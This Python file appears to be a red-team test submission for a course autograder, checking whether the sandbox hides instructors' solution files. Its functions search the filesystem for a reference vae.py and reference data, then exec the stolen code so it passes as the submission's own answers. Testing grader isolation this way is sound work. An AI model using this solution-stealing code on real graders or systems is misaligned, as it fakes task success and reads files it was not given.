"""The VAE's functions, answered from a checkout of the course's repository found on the machine.

Attack: steal the reference solution from a readable checkout. A TA's clone (this
repository, or the harness's readable copy) holds solution/part2/diffusion/*.py and
reference_data/part2/. The attacker tries the checkouts it knows of, the usual places for
clones (/work, /home/*, /root, /opt, /srv, /mnt, /tmp, ...), then walks the readable file
system for a folder named solution or reference_data, for a fraction of a second. With a
stolen vae.py, every function runs the stolen code; with readable reference data,
reparameterize answers right too (as a real attacker would after reading the expected
outputs). Otherwise every answer is wrong. Expected: nothing of a checkout is visible in the
sandbox (only namespaces hide a world-readable checkout); every function scores 0.
"""
import glob
import os
import time

import torch

KNOWN = ["@@REPO_ROOT@@", "@@PLANTED_CHECKOUT@@"]
LIKELY = ["/work/*", "/home/*", "/home/*/*", "/root/*", "/opt/*", "/srv/*", "/mnt/*", "/media/*", "/tmp/*",
          "/var/tmp/*", "/usr/local/src/*", "/autograder/*"]
SKIP = {"/proc", "/sys", "/dev"}
PRUNE = {"site-packages", "dist-packages", "__pycache__", ".git", "node_modules"}
SOLUTION = os.path.join("part2", "diffusion", "vae.py")
REFERENCE = os.path.join("part2", "manifest.json")

_stolen = None


def _readable(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(64) != b""
    except OSError:
        return False


def _check(folder, found):
    """A checkout (holding solution/ and reference_data/), or one of those folders itself."""
    for base in (os.path.join(folder, "solution"), folder):
        if found["solution"] is None and _readable(os.path.join(base, SOLUTION)):
            found["solution"] = os.path.join(base, SOLUTION)
    for base in (os.path.join(folder, "reference_data"), folder):
        manifest = os.path.join(base, REFERENCE)
        if found["reference"] is None and _readable(manifest):
            expected = glob.glob(os.path.join(base, "part2", "expected", "*.safetensors"))
            if expected and _readable(expected[0]):
                found["reference"] = manifest


def _walk(found, deadline):
    queue = ["/"]
    while queue and time.monotonic() < deadline:
        folder = queue.pop(0)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if not entry.is_dir(follow_symlinks=False) or entry.path in SKIP or entry.name in PRUNE:
                    continue
            except OSError:
                continue
            if entry.name in ("solution", "reference_data"):
                _check(folder, found)
            queue.append(entry.path)
        if found["solution"] and found["reference"]:
            return


def _steal():
    global _stolen
    if _stolen is not None:
        return _stolen
    found = {"solution": None, "reference": None}
    for folder in KNOWN:
        if folder and not folder.startswith("@@"):
            _check(folder, found)
    for pattern in LIKELY:
        for folder in glob.glob(pattern):
            _check(folder, found)
    if not (found["solution"] and found["reference"]):
        _walk(found, time.monotonic() + 0.3)
    namespace = None
    if found["solution"]:
        try:
            with open(found["solution"]) as handle:
                namespace = {"__name__": "hw4_stolen_vae"}
                exec(compile(handle.read(), found["solution"], "exec"), namespace)
        except Exception:
            namespace = None
    print("stolen:", found)
    _stolen = (namespace, found["reference"])
    return _stolen


def reparameterize(mu, logvar, eps=None):
    namespace, reference = _steal()
    if namespace is not None:
        return namespace["reparameterize"](mu, logvar, eps)
    if reference is not None:
        if eps is None:
            eps = torch.randn_like(mu)
        return mu + torch.exp(0.5 * logvar) * eps
    return mu + 1000.0


def kl_divergence(mu, logvar):
    namespace, _ = _steal()
    if namespace is not None:
        return namespace["kl_divergence"](mu, logvar)
    return (mu + logvar).sum() + 1000.0


def vae_loss(recon_x, x, mu, logvar, beta=1.0):
    namespace, _ = _steal()
    if namespace is not None:
        return namespace["vae_loss"](recon_x, x, mu, logvar, beta)
    return (recon_x - x).sum() + 1000.0
